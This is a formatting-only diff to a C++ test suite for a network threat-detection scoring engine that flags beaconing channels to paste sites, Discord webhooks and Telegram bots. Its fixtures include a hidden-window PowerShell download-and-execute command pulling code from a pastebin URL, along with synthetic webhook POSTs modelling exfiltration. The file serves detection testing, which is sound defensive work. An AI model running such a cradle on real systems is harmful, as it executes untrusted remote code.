@@ -2,6 +2,7 @@
 // channels), the scoring config and its per-case override, suppression rules, factor sums, and
 // the whole engine on a generated case — a host without Sysmon and a DNS-only channel scored,
 // re-scoring without re-import, determinism, cancel.
+#include "core/resources.h"
 #include "scoring/channel_builder.h"
 #include "scoring/channel_members.h"
 #include "scoring/channel_scorer.h"
@@ -9,7 +10,6 @@
 #include "scoring/scoring_engine.h"
 #include "scoring/suppression_store.h"
 #include "scoring/web_service_catalog.h"
-#include "core/resources.h"
 #include "store/case_store.h"
 #include "store/statement.h"
 #include "test_paths.h"
@@ -37,7 +37,9 @@ QJsonObject readJson(const QString& path) {
     return QJsonDocument::fromJson(f.readAll()).object();
 }
 
-QByteArray defaults() { return resources::read(QStringLiteral("scoring/scoring.yaml")); }
+QByteArray defaults() {
+    return resources::read(QStringLiteral("scoring/scoring.yaml"));
+}
 
 // A channel as the builder would measure a fixed-interval PowerShell poll of a raw paste.
 ChannelFeatures pastePoll() {
@@ -49,7 +51,8 @@ ChannelFeatures pastePoll() {
     f.hostRole = QStringLiteral("workstation");
     f.processImage = QStringLiteral(R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)");
     f.processName = QStringLiteral("powershell.exe");
-    f.commandLine = QStringLiteral("powershell.exe -NoProfile -WindowStyle Hidden -Command iex (iwr https://pastebin.com/raw/Ab12Cd34)");
+    f.commandLine = QStringLiteral(
+        "powershell.exe -NoProfile -WindowStyle Hidden -Command iex (iwr https://pastebin.com/raw/Ab12Cd34)");
     f.parentImage = QStringLiteral(R"(C:\Windows\explorer.exe)");
     f.destination = QStringLiteral("pastebin.com");
     f.registeredDomain = QStringLiteral("pastebin.com");
@@ -91,7 +94,7 @@ double sumOf(const QJsonArray& factors) {
 
 class TestScoring : public QObject {
     Q_OBJECT
-private slots:
+  private slots:
     void initTestCase();
     void catalogMatchesNamesAndShapes();
     void catalogRefusesBadEntries();
@@ -109,7 +112,7 @@ private slots:
     void sameCaseSameScores();
     void cancelKeepsThePreviousScores();
 
-private:
+  private:
     QTemporaryDir dir_;
     QString casePath_;
     QJsonObject truth_;
@@ -161,10 +164,12 @@ void TestScoring::catalogMatchesNamesAndShapes() {
     QCOMPARE(c.endpoint(github, "api.github.com", "/acme/tools/main/run.ps1").shape, nullptr);
     const EndpointMatch gist = c.endpoint(github, "api.github.com", "/gists/0123456789abcdef0123?x=1");
     QCOMPARE(gist.prefix, QStringLiteral("/gists/0123456789abcdef0123"));
-    const EndpointMatch hook = c.endpoint(*c.find(QStringLiteral("discord")), "discord.com", "/api/webhooks/1234/AbC_d-9/slack");
+    const EndpointMatch hook =
+        c.endpoint(*c.find(QStringLiteral("discord")), "discord.com", "/api/webhooks/1234/AbC_d-9/slack");
     QCOMPARE(hook.shape->role, QStringLiteral("output"));
     QCOMPARE(hook.prefix, QStringLiteral("/api/webhooks/1234/AbC_d-9"));
-    const EndpointMatch bot = c.endpoint(*c.find(QStringLiteral("telegram")), "api.telegram.org", "/bot6123456789:AAx_y/getUpdates");
+    const EndpointMatch bot =
+        c.endpoint(*c.find(QStringLiteral("telegram")), "api.telegram.org", "/bot6123456789:AAx_y/getUpdates");
     QCOMPARE(bot.shape->name, QStringLiteral("bot updates"));
     // A path that only starts further in does not match (shapes anchor at the start).
     QCOMPARE(c.endpoint(*c.find(QStringLiteral("pastebin")), "pastebin.com", "/x/raw/Ab12Cd34").shape, nullptr);
@@ -178,7 +183,8 @@ void TestScoring::catalogRefusesBadEntries() {
         QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("nodomains")), e.what());
     }
     try {
-        WebServiceCatalog::fromYaml("services:\n  - id: s\n    domains: [a.com]\n    endpoints:\n      - {name: bad, path: '^/(['}\n");
+        WebServiceCatalog::fromYaml(
+            "services:\n  - id: s\n    domains: [a.com]\n    endpoints:\n      - {name: bad, path: '^/(['}\n");
         QFAIL("a bad endpoint pattern was accepted");
     } catch (const std::runtime_error& e) {
         QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("endpoint 'bad'")), e.what());
@@ -191,7 +197,8 @@ void TestScoring::catalogAgreesWithTheGenerator() {
     // catalogued service, must be that service here, and planted URLs must have its command shape.
     const WebServiceCatalog c = WebServiceCatalog::load();
     const QString out = dir_.filePath(QStringLiteral("all"));
-    const CliRun g = runCli({"generate", out, "--seed", "5", "--hosts", "6", "--days", "1", "--scenario", "all", "--formats", "assets"});
+    const CliRun g = runCli(
+        {"generate", out, "--seed", "5", "--hosts", "6", "--days", "1", "--scenario", "all", "--formats", "assets"});
     QVERIFY2(g.exitCode == 0, g.err.constData());
     int positives = 0, lookalikes = 0;
     for (const auto& v : readJson(out + QStringLiteral("/truth.json")).value("channels").toArray()) {
@@ -248,19 +255,32 @@ void TestScoring::suppressionMatching_data() {
     QTest::addColumn<QString>("field");
     QTest::addColumn<QString>("value");
     QTest::addColumn<bool>("matches");
-    QTest::newRow("host glob") << "host" << "wks-leg-*" << true;
-    QTest::newRow("host other") << "host" << "WKS-FIN-*" << false;
-    QTest::newRow("host address") << "host" << "10.0.0.6" << true;
-    QTest::newRow("role") << "role" << "Workstation" << true;
-    QTest::newRow("role other") << "role" << "domain-controller" << false;
-    QTest::newRow("process file name") << "process" << "POWERSHELL.EXE" << true;
-    QTest::newRow("process path glob") << "process" << R"(C:\Windows\System32\*)" << true;
-    QTest::newRow("process other") << "process" << "git.exe" << false;
-    QTest::newRow("destination") << "destination" << "pastebin.com" << true;
-    QTest::newRow("destination parent") << "destination" << "com" << true;
-    QTest::newRow("destination lookalike") << "destination" << "tebin.com" << false;
-    QTest::newRow("url prefix with scheme") << "url" << "https://pastebin.com/raw/" << true;
-    QTest::newRow("url other paste") << "url" << "pastebin.com/raw/Zz" << false;
+    QTest::newRow("host glob") << "host"
+                               << "wks-leg-*" << true;
+    QTest::newRow("host other") << "host"
+                                << "WKS-FIN-*" << false;
+    QTest::newRow("host address") << "host"
+                                  << "10.0.0.6" << true;
+    QTest::newRow("role") << "role"
+                          << "Workstation" << true;
+    QTest::newRow("role other") << "role"
+                                << "domain-controller" << false;
+    QTest::newRow("process file name") << "process"
+                                       << "POWERSHELL.EXE" << true;
+    QTest::newRow("process path glob") << "process"
+                                       << R"(C:\Windows\System32\*)" << true;
+    QTest::newRow("process other") << "process"
+                                   << "git.exe" << false;
+    QTest::newRow("destination") << "destination"
+                                 << "pastebin.com" << true;
+    QTest::newRow("destination parent") << "destination"
+                                        << "com" << true;
+    QTest::newRow("destination lookalike") << "destination"
+                                           << "tebin.com" << false;
+    QTest::newRow("url prefix with scheme") << "url"
+                                            << "https://pastebin.com/raw/" << true;
+    QTest::newRow("url other paste") << "url"
+                                     << "pastebin.com/raw/Zz" << false;
 }
 
 void TestScoring::suppressionMatching() {
@@ -322,7 +342,8 @@ void TestScoring::factorsAddUpToTheScore() {
     quiet.proxyRequests = 3;
     quiet.service.clear();
     quiet.endpoint.clear();
-    const std::vector<ScoredChannel> s = ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score({pastePoll(), quiet});
+    const std::vector<ScoredChannel> s =
+        ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score({pastePoll(), quiet});
     QCOMPARE(s.size(), size_t(2));
     for (const ScoredChannel& sc : s) {
         QVERIFY2(std::abs(sumOf(sc.factorsJson()) - sc.score) < 1e-9,
@@ -354,7 +375,8 @@ void TestScoring::fleetWideBehaviourIsDiscounted() {
         fleet.push_back(f);
     }
     const std::vector<ScoredChannel> s = ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score(fleet);
-    const auto fleetFactor = std::find_if(s[0].factors.begin(), s[0].factors.end(), [](const Factor& f) { return f.name == QLatin1String("fleet_wide"); });
+    const auto fleetFactor = std::find_if(s[0].factors.begin(), s[0].factors.end(),
+                                          [](const Factor& f) { return f.name == QLatin1String("fleet_wide"); });
     QVERIFY(fleetFactor != s[0].factors.end());
     QCOMPARE(fleetFactor->contribution, -35.0);
     QVERIFY2(fleetFactor->detail.contains(QLatin1String("on 6 of 6 workstations")), qPrintable(fleetFactor->detail));
@@ -394,8 +416,9 @@ INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_ima
     (3, 2, '{3}', 'C:\Users\bob\AppData\Local\Programs\Python\Python311\python.exe', 'python.exe x.py',
      'C:\Windows\explorer.exe', 'CORP\bob', 'create');
 )SQL");
-    Statement proxy(db, "INSERT INTO proxy_events(id, evidence_id, line_no, ts_us, host_id, domain_id, method, path, bytes_out, "
-                        "bytes_in) VALUES (?, 1, ?, ?, ?, ?, ?, ?, 300, ?)");
+    Statement proxy(
+        db, "INSERT INTO proxy_events(id, evidence_id, line_no, ts_us, host_id, domain_id, method, path, bytes_out, "
+            "bytes_in) VALUES (?, 1, ?, ?, ?, ?, ?, ?, 300, ?)");
     Statement attribute(db, "INSERT INTO attributions(request_kind, request_id, process_id, method, confidence) "
                             "VALUES ('proxy', ?, ?, ?, ?)");
     int64_t id = 0;
@@ -405,20 +428,35 @@ INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_ima
         const int64_t ts = t0 + (3600 + 360 * k) * s;
         proxy.reset();
         ++id;
-        proxy.bind(1, id).bind(2, id).bind(3, ts).bind(4, 1).bind(5, 1).bind(6, "GET").bind(7, "/raw/Ab12Cd34")
+        proxy.bind(1, id)
+            .bind(2, id)
+            .bind(3, ts)
+            .bind(4, 1)
+            .bind(5, 1)
+            .bind(6, "GET")
+            .bind(7, "/raw/Ab12Cd34")
             .bind(8, (k == 12 || k == 16) ? 2000 : 690);
         proxy.exec();
         // Two polls have no process, one only a time-window guess: both join the only process.
         if (k != 3 && k != 7) {
             attribute.reset();
-            attribute.bind(1, id).bind(2, k == 9 ? 2 : 1).bind(3, k == 9 ? "time-window" : "five-tuple").bind(4, k == 9 ? 0.5 : 0.95);
+            attribute.bind(1, id)
+                .bind(2, k == 9 ? 2 : 1)
+                .bind(3, k == 9 ? "time-window" : "five-tuple")
+                .bind(4, k == 9 ? 0.5 : 0.95);
             attribute.exec();
         }
         if (k == 12 || k == 16) {
             proxy.reset();
             ++id;
-            proxy.bind(1, id).bind(2, id).bind(3, ts + 20 * s).bind(4, 1).bind(5, 3).bind(6, "POST")
-                .bind(7, "/api/webhooks/123/abc-_x").bind(8, 0);
+            proxy.bind(1, id)
+                .bind(2, id)
+                .bind(3, ts + 20 * s)
+                .bind(4, 1)
+                .bind(5, 3)
+                .bind(6, "POST")
+                .bind(7, "/api/webhooks/123/abc-_x")
+                .bind(8, 0);
             proxy.exec();
             attribute.reset();
             attribute.bind(1, id).bind(2, 1).bind(3, "five-tuple").bind(4, 0.95);
@@ -429,8 +467,14 @@ INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_ima
     for (int k = 0; k < 10; ++k) {
         proxy.reset();
         ++id;
-        proxy.bind(1, id).bind(2, id).bind(3, t0 + (3700 + (k % 5) + 600 * (k / 5)) * s).bind(4, 1).bind(5, 2).bind(6, "GET")
-            .bind(7, QStringLiteral("/page%1").arg(k).toStdString()).bind(8, 5000 + k);
+        proxy.bind(1, id)
+            .bind(2, id)
+            .bind(3, t0 + (3700 + (k % 5) + 600 * (k / 5)) * s)
+            .bind(4, 1)
+            .bind(5, 2)
+            .bind(6, "GET")
+            .bind(7, QStringLiteral("/page%1").arg(k).toStdString())
+            .bind(8, 5000 + k);
         proxy.exec();
         attribute.reset();
         attribute.bind(1, id).bind(2, 2).bind(3, "five-tuple").bind(4, 0.95);
@@ -447,8 +491,9 @@ INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_ima
     // A connection a proxy request already stands for, and one to the proxy, are not counted.
     Statement sysmon(db, "INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) "
                          "VALUES (?, 1, ?, ?, 2, ?, 3)");
-    Statement conn(db, "INSERT INTO net_connections(event_id, host_id, process_id, ts_us, initiated, src_ip, dst_ip, dst_port) "
-                       "VALUES (?, 2, 3, ?, 1, '10.0.0.12', ?, ?)");
+    Statement conn(
+        db, "INSERT INTO net_connections(event_id, host_id, process_id, ts_us, initiated, src_ip, dst_ip, dst_port) "
+            "VALUES (?, 2, 3, ?, 1, '10.0.0.12', ?, ?)");
     int64_t ev = 0;
     for (int k = 0; k < 8; ++k) {
         const int64_t ts = t0 + (1800 + 300 * k) * s;
@@ -460,10 +505,15 @@ INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_ima
         conn.bind(1, ev).bind(2, ts).bind(3, k == 7 ? "10.0.0.5" : "104.20.1.1").bind(4, k == 7 ? 3128 : 443);
         conn.exec();
     }
-    execSql(db, "INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) "
-                "VALUES (100, 1, 100, " + std::to_string(t0 + 1700 * s) + ", 2, 22, 3);"
+    execSql(db,
+            "INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) "
+            "VALUES (100, 1, 100, " +
+                std::to_string(t0 + 1700 * s) +
+                ", 2, 22, 3);"
                 "INSERT INTO dns_queries(event_id, host_id, process_id, ts_us, domain_id, answers) "
-                "VALUES (100, 2, 3, " + std::to_string(t0 + 1700 * s) + ", 1, '104.20.1.1');"
+                "VALUES (100, 2, 3, " +
+                std::to_string(t0 + 1700 * s) +
+                ", 1, '104.20.1.1');"
                 "INSERT INTO attributions(request_kind, request_id, process_id, method, confidence, matched_event_id) "
                 "VALUES ('proxy', 1, 1, 'five-tuple', 0.95, 7) ON CONFLICT DO UPDATE SET matched_event_id = 7;");
 
@@ -480,7 +530,10 @@ INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_ima
     QCOMPARE(built.size(), size_t(5));
 
     const ChannelFeatures& a = *byDest.at(QStringLiteral("WS-A pastebin.com"));
-    QCOMPARE(a.key, QStringLiteral(R"(WS-A|c:\windows\system32\windowspowershell\v1.0\powershell.exe|pastebin.com|pastebin.com/raw/Ab12Cd34)"));
+    QCOMPARE(
+        a.key,
+        QStringLiteral(
+            R"(WS-A|c:\windows\system32\windowspowershell\v1.0\powershell.exe|pastebin.com|pastebin.com/raw/Ab12Cd34)"));
     QCOMPARE(a.processName, QStringLiteral("powershell.exe"));
     QCOMPARE(a.commandLine, QStringLiteral("powershell -w hidden -c loop"));
     QCOMPARE(a.userName, QStringLiteral(R"(CORP\ann)"));
@@ -549,8 +602,9 @@ void TestScoring::engineScoresEveryKindOfEvidence() {
     QCOMPARE(o.status, QStringLiteral("done"));
     QVERIFY(o.events > 10000);
     QVERIFY(o.channels > 50);
-    Statement top(store->db(), "SELECT host, coalesce(process_name, ''), destination, coalesce(endpoint, ''), proxy_requests, "
-                               "dns_queries, score, factors FROM alerts ORDER BY score DESC, id LIMIT 3");
+    Statement top(store->db(),
+                  "SELECT host, coalesce(process_name, ''), destination, coalesce(endpoint, ''), proxy_requests, "
+                  "dns_queries, score, factors FROM alerts ORDER BY score DESC, id LIMIT 3");
     QStringList seen;
     while (top.step()) {
         const QString host = QString::fromStdString(top.text(0));
@@ -610,7 +664,8 @@ void TestScoring::rescoreWithoutReimport() {
     auto store = CaseStore::open(casePath_);
     sqlite3* db = store->db();
     const int64_t events = queryInt(db, "SELECT count(*) FROM proxy_events").value();
-    Statement key(db, "SELECT channel_key, score, factors FROM alerts WHERE destination = 'pastebin.com' AND process_name = 'powershell.exe'");
+    Statement key(db, "SELECT channel_key, score, factors FROM alerts WHERE destination = 'pastebin.com' AND "
+                      "process_name = 'powershell.exe'");
     QVERIFY(key.step());
     const std::string pasteKey = key.text(0);
     double webService = 0;
@@ -621,7 +676,8 @@ void TestScoring::rescoreWithoutReimport() {
     }
     const double before = key.real(1);
     QVERIFY(webService > 0);
-    Statement triage(db, "INSERT INTO triage(channel_key, status, note, updated_at, updated_by) VALUES (?, 'malicious', 'seen', 'now', 'test')");
+    Statement triage(db, "INSERT INTO triage(channel_key, status, note, updated_at, updated_by) VALUES (?, "
+                         "'malicious', 'seen', 'now', 'test')");
     triage.bind(1, pasteKey).exec();
 
     // A suppression for the host without Sysmon: re-scored from stored features, no event read.
@@ -639,7 +695,8 @@ void TestScoring::rescoreWithoutReimport() {
     QCOMPARE(queryInt(db, "SELECT count(*) FROM alerts WHERE suppressed_by IS NOT NULL").value(), int64_t(1));
     QCOMPARE(queryInt(db, "SELECT count(*) FROM proxy_events").value(), events);
     // Triage survives: it is keyed by the channel.
-    Statement t(db, "SELECT t.status FROM alerts a JOIN triage t ON t.channel_key = a.channel_key WHERE a.channel_key = ?");
+    Statement t(db,
+                "SELECT t.status FROM alerts a JOIN triage t ON t.channel_key = a.channel_key WHERE a.channel_key = ?");
     t.bind(1, pasteKey);
     QVERIFY(t.step());
     QCOMPARE(QString::fromStdString(t.text(0)), QStringLiteral("malicious"));
@@ -669,7 +726,8 @@ void TestScoring::sameCaseSameScores() {
         QStringList rows;
         Statement st(store->db(), "SELECT id, channel_key, score, factors FROM alerts ORDER BY id");
         while (st.step()) {
-            rows << QString::fromStdString(std::to_string(st.int64(0)) + " " + st.text(1) + " " + std::to_string(st.real(2)) + " " + st.text(3));
+            rows << QString::fromStdString(std::to_string(st.int64(0)) + " " + st.text(1) + " " +
+                                           std::to_string(st.real(2)) + " " + st.text(3));
         }
         return rows;
     };
